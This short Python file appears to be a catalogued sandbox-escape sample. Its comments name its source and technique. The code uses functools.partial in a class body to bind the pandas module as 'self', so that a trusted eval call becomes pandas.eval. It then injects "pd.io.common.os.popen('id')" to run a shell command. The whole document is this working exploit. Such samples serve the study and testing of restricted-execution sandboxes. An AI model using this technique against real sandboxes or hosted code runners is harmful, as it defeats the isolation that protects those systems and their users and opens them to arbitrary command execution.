# source: pyjail 'unbound method with another self' bypasses (CodeJail/RestrictedPython write-ups); pandas eval injection gadget pd.io.common.os
# family: method function of a script class reached as a plain value (functools.partial(run, pd) in the class body binds a foreign self)
# goal: self.eval trusted as the script's def eval is pandas.eval -> os.popen('id')
import functools
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
    go = functools.partial(run, pd)
print(Calc.go("pd.io.common.os.popen('id').read()"))
